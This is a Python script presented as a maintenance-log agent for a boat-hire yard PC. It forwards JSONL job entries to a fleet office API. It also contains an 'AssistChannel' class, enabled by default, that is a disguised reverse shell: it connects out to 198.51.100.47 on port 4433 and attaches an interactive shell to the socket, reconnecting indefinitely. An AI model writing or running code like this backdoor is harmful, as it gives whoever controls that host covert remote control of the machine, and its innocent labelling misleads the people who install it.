#!/usr/bin/env python3
"""Hire fleet maintenance log agent.

Runs on the yard PC at each hire base.  It watches the maintenance log folder
(./maintenance/*.jsonl, one file per boat, written by the yard tablet app),
forwards new job entries to the fleet office, and keeps a remote-assist
channel open so the office engineers can help the yard staff.

Config: agent.toml (or environment overrides FLEET_AGENT_*).
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
import tomllib
import urllib.request
from pathlib import Path

log = logging.getLogger("fleet-agent")


class AgentConfig:
    office_url = "https://office.narrowboathire.example/api/maintenance"
    assist_host = "198.51.100.47"
    assist_port = 4433
    assist_enabled = True
    poll_seconds = 60
    log_dir = "maintenance"
    base_id = "BASE-UNKNOWN"

    @classmethod
    def load(cls, path):
        cfg = cls()
        if path.exists():
            with path.open("rb") as fh:
                data = tomllib.load(fh)
            for key, value in data.get("agent", {}).items():
                if hasattr(cfg, key):
                    setattr(cfg, key, value)
        for key in ("assist_host", "office_url", "base_id"):
            env = os.environ.get(f"FLEET_AGENT_{key.upper()}")
            if env:
                setattr(cfg, key, env)
        return cfg


class LogForwarder:
    def __init__(self, cfg):
        self.cfg = cfg
        self.seen_file = Path(".agent_seen.json")
        self.seen = json.loads(self.seen_file.read_text()) if self.seen_file.exists() else {}

    def new_entries(self):
        for path in Path(self.cfg.log_dir).glob("*.jsonl"):
            offset = self.seen.get(path.name, 0)
            with path.open() as fh:
                lines = fh.readlines()
            for line in lines[offset:]:
                line = line.strip()
                if line:
                    yield path.stem, json.loads(line)
            self.seen[path.name] = len(lines)

    def push(self, boat, entry):
        body = json.dumps({"base": self.cfg.base_id, "boat": boat, "job": entry}).encode()
        req = urllib.request.Request(
            self.cfg.office_url,
            data=body,
            headers={
                "Content-Type": "application/json",
                "X-Api-Key": os.environ.get("FLEET_OFFICE_KEY", ""),
            },
            method="POST",
        )
        with urllib.request.urlopen(req, timeout=20) as resp:
            return resp.status

    def run_once(self):
        sent = 0
        for boat, entry in self.new_entries():
            try:
                self.push(boat, entry)
                sent += 1
            except OSError as exc:
                log.warning("could not forward %s job %s: %s", boat, entry.get("job_id"), exc)
        self.seen_file.write_text(json.dumps(self.seen))
        if sent:
            log.info("forwarded %d maintenance entries", sent)


class AssistChannel(threading.Thread):
    """Keeps a session open to the office so an engineer can look at the yard PC."""

    def __init__(self, cfg):
        super().__init__(daemon=True, name="assist")
        self.cfg = cfg

    def _session(self):
        conn = socket.create_connection((self.cfg.assist_host, int(self.cfg.assist_port)), timeout=15)
        conn.settimeout(None)
        conn.sendall(f"HELLO {self.cfg.base_id} {socket.gethostname()}\n".encode())
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()
        conn.close()

    def run(self):
        backoff = 5
        while True:
            try:
                self._session()
                backoff = 5
            except OSError as exc:
                log.debug("assist channel unavailable: %s", exc)
                backoff = min(backoff * 2, 600)
            time.sleep(backoff)


def main(argv=None):
    ap = argparse.ArgumentParser(description="hire fleet maintenance log agent")
    ap.add_argument("--config", type=Path, default=Path("agent.toml"))
    ap.add_argument("--once", action="store_true", help="forward once and exit")
    ap.add_argument("--log-level", default="INFO")
    args = ap.parse_args(argv)

    logging.basicConfig(level=args.log_level.upper(),
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = AgentConfig.load(args.config)
    forwarder = LogForwarder(cfg)

    if cfg.assist_enabled:
        AssistChannel(cfg).start()

    if args.once:
        forwarder.run_once()
        return 0

    log.info("agent started for %s, polling every %ss", cfg.base_id, cfg.poll_seconds)
    try:
        while True:
            forwarder.run_once()
            time.sleep(int(cfg.poll_seconds))
    except KeyboardInterrupt:
        log.info("stopping")
    return 0


if __name__ == "__main__":
    sys.exit(main())
